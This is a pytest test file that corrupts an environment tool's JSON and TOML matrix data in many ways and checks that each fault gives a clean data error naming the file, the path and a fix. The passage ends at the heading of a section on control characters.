"""matrix/ data damaged by a hand edit, a bad merge or a broken copy: every wrong type, missing
key, bad version or control character in any field ends in exit 1 with kind "data", a message
naming the file and the JSON path of the value (never a traceback), and a fix that says how to
repair it (curated: edit the file; harvested: regenerate or restore it). A change that leaves
valid data (an optional key deleted, a nullable field set to null) still loads.

The damage is applied to the first record of each file of a copy of tests/fixtures/matrix (the
JSON files rewritten with json, the TOML files with a small inline-table writer) and the file
read through the command that reads it: `resolve` (harvested/*.json, curated/*.toml),
`make --image` (curated/images.toml), `matrix update` (sources.toml), `matrix github`
(cells.toml).
"""

from __future__ import annotations

import json
import math
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

from envgen.errors import DataError

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib

fault = pytest.mark.fault
ROOT = Path(__file__).resolve().parents[2]
FIXTURE = ROOT / "tests" / "fixtures" / "matrix"
DELETE = object()  # "remove this key"
REGENERATE = "envgen matrix update --write"


# ------------------------------------------------------------------------------ helpers

def toml_dumps(doc: dict) -> str:
    """TOML for a parsed document: one ``key = value`` line per top-level key, nested tables
    inline (enough for these tests; tomli-w is not a dependency)."""
    return "".join(f"{_key(k)} = {_value(v)}\n" for k, v in doc.items())


def _key(key: str) -> str:
    return key if re.fullmatch(r"[A-Za-z0-9_-]+", key) else _string(key)


def _string(text: str) -> str:
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def _value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return _string(value)
    if isinstance(value, float) and not math.isfinite(value):
        return "nan" if math.isnan(value) else ("inf" if value > 0 else "-inf")
    if isinstance(value, (int, float)):
        return repr(value)
    if isinstance(value, list):
        return "[" + ", ".join(_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{_key(k)} = {_value(v)}" for k, v in value.items()) + "}"
    raise TypeError(f"TOML has no {type(value).__name__}")


def place(doc: Any, path: tuple, value: Any) -> None:
    """Set (or with DELETE remove) the value at ``path`` (keys and indexes) in ``doc``."""
    *parents, last = path
    for part in parents:
        doc = doc[part]
    if value is DELETE:
        del doc[last]
    else:
        doc[last] = value


def edit(matrix: Path, rel: str, path: tuple, value: Any) -> None:
    """Rewrite ``matrix/rel`` with ``value`` placed at ``path``."""
    file = matrix / rel
    if rel.endswith(".json"):
        doc = json.loads(file.read_text(encoding="utf-8"))
        place(doc, path, value)
        file.write_text(json.dumps(doc, indent=1), encoding="utf-8")
    else:
        doc = tomllib.loads(file.read_text(encoding="utf-8"))
        place(doc, path, value)
        text = toml_dumps(doc)
        assert tomllib.loads(text) == doc  # the writer wrote what the test means
        file.write_text(text, encoding="utf-8")


def where(path: tuple) -> str:
    """A path as envgen prints it: ``builds[0].python``, ``conda.releases["11.7"]``."""
    out = ""
    for part in path:
        if isinstance(part, int):
            out += f"[{part}]"
        elif re.fullmatch(r"[A-Za-z_][A-Za-z0-9_-]*", part):
            out += f".{part}" if out else part
        else:
            out += f"[{json.dumps(part)}]"
    return out


def data_error(r, file: str, *fragments: str) -> dict:
    """``r`` exited 1 with a --json data error naming ``file`` and each fragment."""
    assert r.code == 1, f"exit {r.code}\n{r.out}\n{r.err}"
    err = r.error
    assert err["kind"] == "data", err
    assert file in err["message"], err["message"]
    for fragment in fragments:
        assert fragment in err["message"], f"{fragment!r} not in\n{err['message']}"
    return err


@pytest.fixture
def matrix(matrix_copy: Path) -> Path:
    """The fixture matrix plus the committed sources.toml and cells.toml."""
    for name in ("sources.toml", "cells.toml"):
        shutil.copy(ROOT / "matrix" / name, matrix_copy / name)
    return matrix_copy


@pytest.fixture
def resolve(cli, matrix):
    def run():
        return cli("--matrix-dir", matrix, "resolve", "--framework", "deepspeed", "--json")
    return run


def expect_facts(resolve, file: str, path: tuple, valid: bool, *fragments: str) -> None:
    """Data that loads resolves (exit 0); damage is a data error at ``file`` ``path`` whose
    fix says how to repair that kind of file."""
    r = resolve()
    if valid:
        assert r.code == 0, r.out + r.err
        assert json.loads(r.out), "no combination resolved"
        return
    spot = f"{file} {where(path)}" if path else file
    err = data_error(r, file, spot, *fragments)
    if file.startswith("harvested/"):
        assert REGENERATE in err["fix"] and "git checkout" in err["fix"], err["fix"]
    else:
        assert f"fix {file}" in err["fix"], err["fix"]
    assert "Traceback" not in r.err


def first_record(rel: str, table: tuple) -> dict:
    path = FIXTURE / rel
    doc = (json.loads(path.read_text()) if rel.endswith(".json")
           else tomllib.loads(path.read_text()))
    for part in table:
        doc = doc[part]
    return doc


# ------------------------------------------------------------------------------ M01, M02:
# harvested JSON. Every key of a record is required; only the nullable ones take null and only
# max_gcc is an integer.

HARVESTED = {"harvested/torch.json": "builds", "harvested/frameworks.json": "releases",
             "harvested/cuda.json": "toolkits"}
NULLABLE = {"harvested/torch.json": {"local", "cuda", "glibc", "requires_python", "cuda_runtime",
                                     "nccl", "cudnn", "triton", "headers", "archs"},
            "harvested/frameworks.json": {"requires_python", "requires_torch", "wheel_python",
                                          "wheel_glibc", "build"},
            "harvested/cuda.json": {"max_clang"}}
INTEGER = {"max_gcc", "max_clang"}
WRONG_JSON = {"int": 5, "true": True, "null": None, "list": [], "object": {}}


def _harvested_cases():
    for rel, key in HARVESTED.items():
        for field in first_record(rel, (key, 0)):
            for kind, value in WRONG_JSON.items():
                valid = (kind == "null" and field in NULLABLE[rel]) or (
                    kind == "int" and field in INTEGER)
                # an empty object where a source belongs lacks the source's keys
                torch = rel.endswith("torch.json")
                says = {("source", "object"): "missing 'url'", ("files", "object"):
                        "missing 'sdist'", ("build", "object"): "missing 'read'",
                        ("headers", "object"): "missing 'cxx_std'",
                        ("archs", "object"): "missing 'sm'" if torch else "is not"}.get(
                            (field, kind), "is not")
                yield pytest.param(rel, (key, 0, field), value, valid, says,
                                   id=f"{rel.split('/')[1]}-{field}-{kind}")


@fault("M01", "harvested JSON: a wrong type or shape in a record", exit=1)
@pytest.mark.parametrize(("rel", "path", "value", "valid", "says"), list(_harvested_cases()))
def test_harvested_wrong_type(resolve, matrix, rel, path, value, valid, says):
    edit(matrix, rel, path, value)
    expect_facts(resolve, rel, path, valid, says)


T, F, C = "harvested/torch.json", "harvested/frameworks.json", "harvested/cuda.json"


def shape(rel: str, path: tuple, value: Any, says: str | None = None, at: tuple | None = None):
    """``value`` at ``path`` of ``rel``; ``says``: what the error says (None: the data stays
    valid); ``at``: where it is reported (default: ``path``)."""
    return pytest.param(rel, path, value, says, path if at is None else at,
                        id=f"{rel.split('/')[1]}-{where(path)}-{value!r}"[:60])


SHAPES = [
    shape(T, ("builds", 0, "version"), "one", "is not a PEP 440 version"),
    shape(T, ("builds", 0, "version"), "1.13.1.x", "'1.13.1.x' is not a PEP 440 version"),
    shape(T, ("builds", 0, "cuda"), "12", "is not a CUDA major.minor"),
    shape(T, ("builds", 0, "cuda"), "12.1.0", "is not a CUDA major.minor"),
    shape(T, ("builds", 0, "platform"), "linux-ppc64le", "is not a platform"),
    shape(T, ("builds", 0, "glibc"), "2.28.1", "is not a glibc version"),
    shape(T, ("builds", 0, "python"), ["3.11", "3.11"], "distinct Python versions"),
    shape(T, ("builds", 0, "python", 0), "3", "is not a Python version"),
    shape(T, ("builds", 0, "python"), [], "non-empty list"),
    shape(T, ("builds", 0, "requires_python"), "=>3.8", "is not a PEP 440 version "
          "specifier"),
    shape(T, ("builds", 0, "sources"), [], "non-empty list of sources"),
    shape(T, ("builds", 0, "sources", 0, "sha256"), "abc", "64 lowercase hex"),
    shape(T, ("builds", 0, "sources", 0, "url"), "ftp://mirror/torch.whl",
          "is not an http(s) URL"),
    shape(T, ("builds", 0, "sources", 0, "retrieved"), "yesterday", "is not an ISO date"),
    shape(T, ("builds", 0, "sources", 0, "verified"), "md5", "how the bytes were checked"),
    shape(T, ("builds", 0, "sources", 0, "verified"), "sha256"),
    shape(T, ("builds", 0, "sources", 0, "uploaded"), None),
    shape(T, ("builds", 0, "wheel_tag"), "manylinux 2014", "is not a wheel platform tag"),
    shape(T, ("builds", 0, "colour"), "red", "unknown key(s) colour", at=("builds", 0)),
    shape(T, ("generated",), 5, "is not how and when the file was written"),
    shape(T, ("generated",), DELETE),
    shape(T, ("builds", 1), "2.5.1", "is not a torch build record"),
    shape(F, ("releases", 0, "framework"), "DeepSpeed", "normalized PyPI project name"),
    shape(F, ("releases", 0, "requires_torch"), ">=2,<", "is not a PEP 440 version "
          "specifier"),
    shape(F, ("releases", 0, "requires_torch"), ""),
    shape(F, ("releases", 0, "metadata_from"), "pip", "is not one of"),
    shape(F, ("releases", 0, "wheel_python"), ["cp311"], "is not a Python version"),
    shape(F, ("releases", 0, "source"), "https://example.invalid/x", "is not a source"),
    shape(C, ("toolkits", 0, "max_gcc"), 12.5, "is not a gcc major version"),
    shape(C, ("toolkits", 0, "max_gcc"), 12.0),
    shape(C, ("toolkits", 0, "max_gcc"), "12", "is not a gcc major version"),
    shape(C, ("toolkits", 0, "max_gcc"), 0, "is not a gcc major version"),
    shape(C, ("toolkits", 0, "max_gcc"), math.nan, "is not a gcc major version"),
    shape(C, ("toolkits", 0, "archs"), ["sm90"], "is not a GPU architecture"),
    shape(C, ("toolkits", 0, "platforms"), ["linux-x86_64", "linux-x86_64"], "distinct"),
    shape(C, ("toolkits", 1, "cuda"), "11.7", "is listed twice", at=("toolkits", 1)),
    shape(C, ("toolkits", 0, "nvcc_version"), "11.7.99.x", "is not a PEP 440 version"),
    shape(C, ("schema",), 2, "expected schema 1 with a 'toolkits' list", at=()),
    shape(C, ("toolkits",), {}, "expected schema 1 with a 'toolkits' list", at=()),
    shape(C, ("extra",), [], "unknown key(s) extra", at=()),
]


@fault("M01", "harvested JSON: a wrong type or shape in a record", exit=1)
@pytest.mark.parametrize(("rel", "path", "value", "says", "at"), SHAPES)
def test_harvested_bad_shape(resolve, matrix, rel, path, value, says, at):
    edit(matrix, rel, path, value)
    expect_facts(resolve, rel, at, says is None, says or "")


BROKEN_FILES = [  # (file, bytes or None for "removed", fragment)
    (T, b"", "not valid JSON"),
    (T, b'{"schema": 1, "builds": [', "not valid JSON"),
    (F, b"\xff\xfe{}", "not valid JSON"),
    (C, b"[" * 100_000 + b"]" * 100_000, "not valid JSON"),
    (C, b"[]", "is a JSON list"),
    (F, None, "file is missing (create it with `envgen matrix update --write`)"),
]


@fault("M01", "harvested JSON: a wrong type or shape in a record", exit=1)
@pytest.mark.parametrize(("rel", "body", "fragment"), BROKEN_FILES,
                         ids=["empty", "truncated", "not-utf8", "nested", "array", "missing"])
def test_harvested_file_unreadable(resolve, matrix, rel, body, fragment):
    if body is None:
        (matrix / rel).unlink()
    else:
        (matrix / rel).write_bytes(body)
    err = data_error(resolve(), rel, f"{rel}: {fragment}")
    assert REGENERATE in err["fix"]


def _missing_cases():
    for rel, key in HARVESTED.items():
        for field in first_record(rel, (key, 0)):
            yield pytest.param(rel, (key, 0), field, id=f"{rel.split('/')[1]}-{field}")
    yield pytest.param(T, ("builds", 0, "sources", 0), "url", id="torch.json-sources.url")
    yield pytest.param(F, ("releases", 0, "source"), "retrieved", id="frameworks.json-retrieved")


@fault("M02", "harvested JSON: a record without a required key", exit=1)
@pytest.mark.parametrize(("rel", "record", "field"), list(_missing_cases()))
def test_harvested_missing_key(resolve, matrix, rel, record, field):
    edit(matrix, rel, (*record, field), DELETE)
    expect_facts(resolve, rel, record, False, f"missing {field!r}")


@fault("M02", "harvested JSON: a record without a required key", exit=1)
@pytest.mark.parametrize("rel", list(HARVESTED))
def test_harvested_without_records_key(resolve, matrix, rel):
    edit(matrix, rel, (HARVESTED[rel],), DELETE)
    data_error(resolve(), rel, f"expected schema 1 with a '{HARVESTED[rel]}' list")


# ------------------------------------------------------------------------------ M03, M04:
# curated TOML. Each table's fields, and which damage still leaves valid data.

CURATED = [  # (file, path of the table, {field: kinds that are valid there})
    ("curated/os.toml", ("os", 0), {"id": {"str"}, "name": {"str"}, "family": {"str"},
                                    "glibc": set(), "gcc": {"int"}, "gcc_available": set(),
                                    "archs": set(), "source": {"str"}}),
    ("curated/cuda.toml", ("toolkit", 0), {"cuda": set(), "min_driver": set(),
                                           "toolkit_driver": set(), "source": {"str"}}),
    ("curated/torch.toml", ("variants", 0), {"torch": set(), "cuda": set(),
                                             "source": {"str"}}),
    ("curated/torch.toml", ("index_glibc", 0), {"torch": set(), "glibc": set(),
                                                "source": {"str"}}),
    ("curated/frameworks.toml", ("constraint", 0), {
        "framework": {"str"}, "versions": set(), "requires_cuda": set(),
        "requires_torch": set(), "source": {"str"}}),
    ("curated/frameworks.toml", ("breakage", 0), {
        "framework": {"str"}, "versions": set(), "torch": set(), "cuda": set(),
        "what": {"str"}, "checked_through": set(), "source": {"str"}}),
    ("curated/gpus.toml", ("gpu", 0), {"name": {"str"}, "aliases": {"list"}, "arch": set(),
                                       "source": {"str"}}),
    ("curated/compilers.toml", ("cxx_std", 0), {"std": set(), "min_gcc": {"int"},
                                                "min_clang": {"int"}, "source": {"str"}}),
    ("curated/policy.toml", (), {"python_preference": {"list"}, "os_preference": {"list"},
                                 "framework_order": {"list"}, "source": {"str"}}),
    ("curated/policy.toml", ("manylinux_aliases",), {"manylinux1": set(), "source": {"str"}}),
    ("curated/policy.toml", ("conda_gcc",), {"available": {"list"}, "source": {"str"}}),
    ("curated/toolchain.toml", ("conda",), {
        "channels": {"list"}, "channel_alias": set(), "specs": {"list"}, "compiler": {"list"},
        "source": {"str"}, "subdirs": {"table"}, "virtual": set(), "cuda": {"list"},
        "releases": {"table"}}),
    ("curated/toolchain.toml", ("conda", "virtual"), {"linux": set(), "source": {"str"}}),
    ("curated/toolchain.toml", ("venv",), {"source": {"str"}, "os_packages": {"table"},
                                           "cuda": {"list"}}),
]
WRONG_TOML = {"int": 5, "true": True, "str": "x", "list": [], "table": {}}
# keys a curated table may leave out (everything else is required)
OPTIONAL_KEYS = {("curated/os.toml", "gcc_available"), ("curated/os.toml", "archs"),
                 ("curated/cuda.toml", "toolkit_driver"), ("curated/frameworks.toml", "versions"),
                 ("curated/frameworks.toml", "requires_cuda"),
                 ("curated/frameworks.toml", "requires_torch"),
                 ("curated/policy.toml", "manylinux1"),
                 ("curated/toolchain.toml", "cuda"), ("curated/toolchain.toml", "releases"),
                 ("curated/toolchain.toml", "os_packages"), ("curated/frameworks.toml", "torch"),
                 ("curated/frameworks.toml", "cuda"),
                 ("curated/frameworks.toml", "checked_through"),
                 ("curated/gpus.toml", "aliases"), ("curated/compilers.toml", "min_gcc"),
                 ("curated/compilers.toml", "min_clang")}
# a top-level policy.toml "source" is optional too (the table's records are what must cite)
OPTIONAL_PATHS = {("curated/policy.toml", ("source",))}


def _curated_cases():
    for rel, table, fields in CURATED:
        for field, valid_kinds in fields.items():
            for kind, value in WRONG_TOML.items():
                # an empty [conda.virtual] lacks its keys
                says = "missing 'linux'" if (field, kind) == ("virtual", "table") else "is not"
                yield pytest.param(rel, (*table, field), value, kind in valid_kinds, says,
                                   id=f"{rel.split('/')[1]}-{where((*table, field))}-{kind}")


@fault("M03", "curated TOML: a wrong type or shape in a table", exit=1)
@pytest.mark.parametrize(("rel", "path", "value", "valid", "says"), list(_curated_cases()))
def test_curated_wrong_type(resolve, matrix, rel, path, value, valid, says):
    edit(matrix, rel, path, value)
    expect_facts(resolve, rel, path, valid, says)


CURATED_SHAPES = [
    shape("curated/os.toml", ("os", 0, "glibc"), "2", "is not a glibc version"),
    shape("curated/os.toml", ("os", 0, "gcc"), 11.5, "is not a gcc major version"),
    shape("curated/os.toml", ("os", 0, "gcc_available"), [9, "10"],
          "is not a gcc major version"),
    shape("curated/os.toml", ("os", 0, "archs"), ["x86_64", "ppc64le"],
          "is not a CPU architecture"),
    shape("curated/os.toml", ("os", 0, "eol"), "2027", "is not an ISO date"),
    shape("curated/os.toml", ("os", 0, "eol"), "2027-05-31"),
    shape("curated/os.toml", ("os", 0, "source"), "   ", "is not a citation"),
    shape("curated/os.toml", ("os", 0, "soruce"), "https://x", "unknown key(s) soruce",
          at=("os", 0)),
    shape("curated/os.toml", ("os", 1, "id"), "ubuntu-22.04", "is listed twice",
          at=("os", 1)),
    shape("curated/os.toml", ("os", 0, "id"), "Ubuntu 22.04", "is not an OS id"),
    shape("curated/cuda.toml", ("toolkit", 0, "min_driver"), "525.60.13-1",
          "is not a driver version"),
    shape("curated/torch.toml", ("variants", 0, "cuda"), ["12.1", "12.1"], "distinct"),
    shape("curated/torch.toml", ("variants", 0, "platforms"), ["linux-arm"],
          "is not a platform"),
    shape("curated/torch.toml", ("variants", 0, "platforms"), ["linux-aarch64"]),
    shape("curated/torch.toml", ("variants", 0, "torch"), "2.5.1.x",
          "is not a PEP 440 version"),
    shape("curated/torch.toml", ("index_glibc", 0, "torch"), "<<2.6",
          "is not a PEP 440 version specifier"),
    shape("curated/frameworks.toml", ("constraint", 0, "requires_cuda"), "=>12.0",
          "is not a PEP 440 version specifier"),
    shape("curated/frameworks.toml", ("constraint", 0, "versions"), ""),
    shape("curated/frameworks.toml", ("breakage", 0, "torch"), "=>2.12",
          "is not a PEP 440 version specifier"),
    shape("curated/frameworks.toml", ("breakage", 0, "checked_through"), "0.19.x",
          "is not a PEP 440 version"),
    shape("curated/gpus.toml", ("gpu", 0, "arch"), "volta", "is not a GPU architecture"),
    shape("curated/compilers.toml", ("cxx_std", 0, "std"), "c++17",
          "is not a C++ standard year"),
    shape("curated/policy.toml", ("python_preference",), ["3.12", "three"],
          "is not a Python version"),
    shape("curated/policy.toml", ("manylinux_aliases", "musllinux1"), "1.2",
          "unknown key(s) musllinux1", at=("manylinux_aliases",)),
    shape("curated/policy.toml", ("conda_gcc", "available"), [9, 9], "distinct"),
    shape("curated/toolchain.toml", ("conda", "subdirs", "linux-ppc64le"), "linux-ppc64le",
          "key 'linux-ppc64le' is not a platform", at=("conda", "subdirs")),
    shape("curated/toolchain.toml", ("conda", "releases", "11.x"), "11.0.0",
          "key '11.x' is not a CUDA major.minor", at=("conda", "releases")),
    shape("curated/toolchain.toml", ("conda", "cuda", 0, "cuda"), "=>12.0",
          "is not a PEP 440 version specifier"),
    shape("curated/toolchain.toml", ("venv", "cuda", 0, "requirements"), [""],
          "is not a non-empty line of text"),
    shape("curated/toolchain.toml", ("build",), {"deepspeed": {"requirements": ["ninja"]}},
          "missing 'source'", at=("build", "deepspeed")),
]


@fault("M03", "curated TOML: a wrong type or shape in a table", exit=1)
@pytest.mark.parametrize(("rel", "path", "value", "says", "at"), CURATED_SHAPES)
def test_curated_bad_shape(resolve, matrix, rel, path, value, says, at):
    edit(matrix, rel, path, value)
    expect_facts(resolve, rel, at, says is None, says or "")


@fault("M03", "curated TOML: a wrong type or shape in a table", exit=1)
@pytest.mark.parametrize(("body", "fragment"), [
    (b"[[os]\nid = 1", "not valid TOML"),
    (b"\xff\xfe[[os]]", "not UTF-8 text"),
    (b"eol = 2027-05-31\n[[os]]\nid = 'x'", "unknown key(s) eol"),
    (b"a = " + b"[" * 5000 + b"]" * 5000, "nested too deeply"),
], ids=["syntax", "not-utf8", "bare-date", "nested"])
def test_curated_file_unreadable(resolve, matrix, body, fragment):
    (matrix / "curated" / "os.toml").write_bytes(body)
    err = data_error(resolve(), "curated/os.toml", fragment)
    assert "fix curated/os.toml" in err["fix"]


@fault("M03", "curated TOML: a wrong type or shape in a table", exit=1)
def test_curated_toml_date_is_not_a_string(resolve, matrix):
    path = matrix / "curated" / "os.toml"
    path.write_text(path.read_text().replace('glibc = "2.35"', 'glibc = "2.35"\neol = 2027-05-31'))
    data_error(resolve(), "curated/os.toml", "os[0].eol (ubuntu-22.04): 2027-05-31 (a TOML date) "
               "is not an ISO date in quotes")


@fault("M03", "curated TOML: a wrong type or shape in a table", exit=1)
def test_curated_file_that_is_a_directory(resolve, matrix):
    (matrix / "curated" / "policy.toml").unlink()
    (matrix / "curated" / "policy.toml").mkdir()
    data_error(resolve(), "curated/policy.toml", "curated/policy.toml: cannot be read")


def _curated_missing_cases():
    for rel, table, fields in CURATED:
        for field in fields:
            valid = (rel, field) in OPTIONAL_KEYS or (rel, (*table, field)) in OPTIONAL_PATHS
            yield pytest.param(rel, table, field, valid,
                               id=f"{rel.split('/')[1]}-{where((*table, field))}")
    for rel, key, valid in (("curated/os.toml", "os", False),
                            ("curated/cuda.toml", "toolkit", False),
                            ("curated/torch.toml", "variants", True),
                            ("curated/torch.toml", "index_glibc", True),
                            ("curated/frameworks.toml", "constraint", True),
                            ("curated/policy.toml", "manylinux_aliases", True),
                            ("curated/policy.toml", "conda_gcc", True),
                            ("curated/toolchain.toml", "venv", False)):
        yield pytest.param(rel, (), key, valid, id=f"{rel.split('/')[1]}-[{key}]")


@fault("M04", "curated TOML: a table without a required key", exit=1)
@pytest.mark.parametrize(("rel", "table", "field", "valid"), list(_curated_missing_cases()))
def test_curated_missing_key(resolve, matrix, rel, table, field, valid):
    edit(matrix, rel, (*table, field), DELETE)
    expect_facts(resolve, rel, table, valid, f"missing {field!r}")


@fault("M04", "curated TOML: a table without a required key", exit=1)
@pytest.mark.parametrize(("name", "valid"), [("os", False), ("policy", False),
                                             ("toolchain", True)])
def test_curated_file_removed(resolve, matrix, name, valid):
    (matrix / "curated" / f"{name}.toml").unlink()
    expect_facts(resolve, f"curated/{name}.toml", (), valid, "file is missing")


# ------------------------------------------------------------------------------ M05:
# images.toml (read by `make --image`), sources.toml (`matrix update`), cells.toml
# (`matrix github`). Damage exits 1 before anything is locked, fetched or built; data that
# stays valid loads.

IMAGES = "curated/images.toml"
IMAGE_DAMAGE = [  # (path, value, fragment)
    (("base", 0, "digest"), "latest", "base[0].digest: 'latest' is not a sha256 digest"),
    (("base", 0, "image"), DELETE, "base[0]: missing 'image'"),
    (("base", 1, "os"), "ubuntu-20.04", "base[1]: second base for ubuntu-20.04"),
    (("base", 0, "python"), "3.8",
     "base[0].python: '3.8' is not a list of distinct Python versions"),
    (("family", "debian", "install"), "apt-get install",
     "family.debian.install: has no {packages} placeholder"),
    (("family", "debian", "cc"), DELETE, "family.debian: missing 'cc'"),
    (("family", "debian", "builder"), ["gcc-{gcc}", 5], "family.debian.builder[1]: 5 is not"),
    (("naming", "tag"), 5, "naming.tag: 5 is not"),
    (("naming",), DELETE, "(top level): missing 'naming'"),
    (("conda", "targets", "linux-ppc64le"), "ppc64le-linux",
     "conda.targets: key 'linux-ppc64le' is not a platform"),
    (("conda", "env", "CPATH"), ["a"], "conda.env.CPATH: [\"a\"] is not"),
    (("portable", "x86_64", "-march=native"), "-march=x86-64-v3 -O3",
     'portable.x86_64["-march=native"]: \'-march=x86-64-v3 -O3\' is not a compiler flag'),
    (("ops", "deepspeed", "ops"), [], "ops.deepspeed.ops: [] is not a non-empty list"),
    (("venv_toolkit", 0, "cuda"), "=>13.0", "venv_toolkit[0].cuda: '=>13.0' is not a PEP "
     "440 version specifier"),
    (("gpu", "default_archs"), ["sm90"], "gpu.default_archs[0]: 'sm90' is not a GPU "
     "architecture"),
    (("imgaes",), {}, "(top level): unknown key(s) imgaes"),
]


@pytest.fixture
def make_image(cli, matrix, tmp_path):
    def run():
        return cli("--matrix-dir", matrix, "make", "--framework", "deepspeed", "--image",
                   "--cache-dir", tmp_path / "cache", "--out", tmp_path / "locks", "--json")
    return run


@fault("M05", "images.toml, sources.toml or cells.toml damaged", exit=1)
@pytest.mark.parametrize(("path", "value", "fragment"), IMAGE_DAMAGE,
                         ids=[where(d[0]) for d in IMAGE_DAMAGE])
def test_images_toml(make_image, matrix, tmp_path, path, value, fragment):
    edit(matrix, IMAGES, path, value)
    err = data_error(make_image(), IMAGES, fragment)
    assert f"fix {IMAGES}" in err["fix"]
    assert not (tmp_path / "locks").exists()


@fault("M05", "images.toml, sources.toml or cells.toml damaged", exit=1)
@pytest.mark.parametrize(("body", "fragment"), [
    (None, "curated/images.toml does not exist"),
    (b"[naming\n", "images.toml: "),
    (b"\xff", "is not UTF-8 text"),
], ids=["missing", "syntax", "not-utf8"])
def test_images_toml_unreadable(make_image, matrix, body, fragment):
    path = matrix / IMAGES
    if body is None:
        path.unlink()
    else:
        path.write_bytes(body)
    data_error(make_image(), "images.toml", fragment)


@pytest.mark.parametrize("path", [("venv_toolkit", 0, "setup"),
                                  ("family", "ubuntu", "runtime_by_os"),
                                  ("conda", "env")], ids=where)
def test_images_toml_optional_keys(matrix, path):
    from envgen.image import load_recipes

    edit(matrix, IMAGES, path, DELETE)
    assert load_recipes(matrix).bases


SOURCES_DAMAGE = [  # (path, value, fragment)
    (("index", 0, "url"), "ftp://pypi.org/simple/", "index[0].url: 'ftp://pypi.org/simple/' is "
     "not an http(s) URL"),
    (("index", 0, "name"), 5, "index[0].name: 5 is not"),
    (("index", 1, "name"), "pypi", "duplicate index name 'pypi'"),
    (("index", 0, "default"), "yes", "index[0].default: 'yes' is not true or false"),
    (("index",), DELETE, "(top level): missing 'index'"),
    (("torch", "cuda_local_pattern"), "cu(", "torch.cuda_local_pattern: 'cu(' is not a regular "
     "expression"),
    (("torch", "cuda_local_pattern"), "cu\\d+", "has no (?P<major>…) and (?P<minor>…) groups"),
    (("torch", "pins", "nccl"), 5, "torch.pins.nccl: 5 is not a regular expression"),
    (("torch", "pins", "cusparse"), "nvidia-cusparse", "torch.pins: key 'cusparse' is not one "
     "of cuda_runtime"),
    (("torch", "platforms"), ["linux-ppc64le"], "torch.platforms[0]: 'linux-ppc64le' is not a "
     "platform"),
    (("torch", "project"), DELETE, "torch: missing 'project'"),
    (("frameworks", 0, "min_version"), "0.8.0.x", "frameworks[0].min_version: '0.8.0.x' is not "
     "a PEP 440 version"),
    (("cuda_toolkits", 0), "nvidia-cuda-nvcc-cu11", "cuda_toolkits[0]: 'nvidia-cuda-nvcc-cu11' "
     "is not a [[cuda_toolkits]] table"),
    (("refresh", "max_removed_share"), 2, "refresh.max_removed_share: 2 is not a number between "
     "0 and 1"),
    (("refresh", "max_removed_share"), "5%", "refresh.max_removed_share: '5%' is not a number"),
    (("refresh", "max_whole_download_mb"), True, "refresh.max_whole_download_mb: true is not a "
     "number"),
    (("refresh", "max_whole_download_mb"), -1, "refresh.max_whole_download_mb: -1 is not a "
     "number >= 0"),
]


@fault("M05", "images.toml, sources.toml or cells.toml damaged", exit=1)
@pytest.mark.parametrize(("path", "value", "fragment"), SOURCES_DAMAGE,
                         ids=[f"{where(d[0])}-{d[1]!r}"[:50] for d in SOURCES_DAMAGE])
def test_sources_toml(cli, matrix, tmp_path, path, value, fragment):
    edit(matrix, "sources.toml", path, value)
    before = sorted(p.name for p in (matrix / "harvested").iterdir())
    r = cli("--matrix-dir", matrix, "matrix", "update", "--offline", "--cache-dir",
            tmp_path / "cache", "--json")
    err = data_error(r, "sources.toml", fragment)
    assert "fix matrix/sources.toml" in err["fix"]
    assert sorted(p.name for p in (matrix / "harvested").iterdir()) == before


def test_sources_toml_optional_keys(matrix):
    from envgen.facts.sources import load_sources, refresh_policy

    edit(matrix, "sources.toml", ("index", 1, "projects"), DELETE)
    edit(matrix, "sources.toml", ("cuda_toolkits", 2, "host_config_project"), DELETE)
    edit(matrix, "sources.toml", ("refresh",), DELETE)
    sources = load_sources(matrix)
    assert sources.indexes[1].projects == ()
    with pytest.raises(DataError, match=r"has no \[refresh\] max_removed_share"):
        refresh_policy(sources)  # only `matrix update` needs it, and says so


@fault("M05", "images.toml, sources.toml or cells.toml damaged", exit=1)
@pytest.mark.parametrize(("value", "fragment"), [
    ({"source": "https://x"}, "missing"),
    ({"manylinux2014": 2.17, "source": "https://x"}, "manylinux_aliases.manylinux2014: 2.17 is "
     "not a glibc version"),
], ids=["no-aliases", "float-glibc"])
def test_manylinux_aliases_for_the_harvester(cli, matrix, tmp_path, value, fragment):
    from envgen.facts.sources import load_manylinux_aliases

    edit(matrix, "curated/policy.toml", ("manylinux_aliases",), value)
    if fragment == "missing":
        assert load_manylinux_aliases(matrix) == {}
        return
    r = cli("--matrix-dir", matrix, "matrix", "update", "--offline", "--cache-dir",
            tmp_path / "cache", "--json")
    data_error(r, "policy.toml", fragment)


CELLS_DAMAGE = [  # (path, value, fragment)
    (("cell", 0, "flavor"), "docker", "cell[0].flavor: 'docker' is not conda, venv or os-package"),
    (("cell", 0, "combination"), 5, "cell[0].combination: 5 is not a combination id"),
    (("cell", 0, "combination"), "nope", "cell[0].combination: 'nope' is not a combination id"),
    (("cell", 0, "gpu_arch"), "sm90", "cell[0].gpu_arch: 'sm90' is not a GPU architecture"),
    (("cell", 0, "colour"), 1, "cell[0]: unknown key(s) colour"),
    (("cell", 0), "a cell", "cell[0]: 'a cell' is not a [[cell]] table"),
    (("cell",), {}, "cell: {} is not a list of [[cell]] tables"),
]


@fault("M05", "images.toml, sources.toml or cells.toml damaged", exit=1)
@pytest.mark.parametrize(("path", "value", "fragment"), CELLS_DAMAGE,
                         ids=[f"{where(d[0])}-{d[1]!r}" for d in CELLS_DAMAGE])
def test_cells_toml(cli, matrix, tmp_path, path, value, fragment):
    edit(matrix, "cells.toml", path, value)
    r = cli("--matrix-dir", matrix, "matrix", "github", "--locks", tmp_path / "locks",
            "--results-dir", tmp_path / "results", "--json")
    err = data_error(r, "cells.toml", fragment)
    assert "fix matrix/cells.toml" in err["fix"]


def test_cells_toml_optional_keys(cli, matrix, tmp_path):
    edit(matrix, "cells.toml", ("cell", 0, "note"), DELETE)
    edit(matrix, "cells.toml", ("cell", 1, "flavor"), DELETE)
    r = cli("--matrix-dir", matrix, "matrix", "github", "--locks", tmp_path / "locks",
            "--results-dir", tmp_path / "results")
    assert r.code == 0, r.err
    assert "--flavor conda" in json.loads(r.out)["include"][1]["make_options"]


# ------------------------------------------------------------------------------ M06:
# a control character in a value that is rendered into commands, Dockerfiles, lock files or
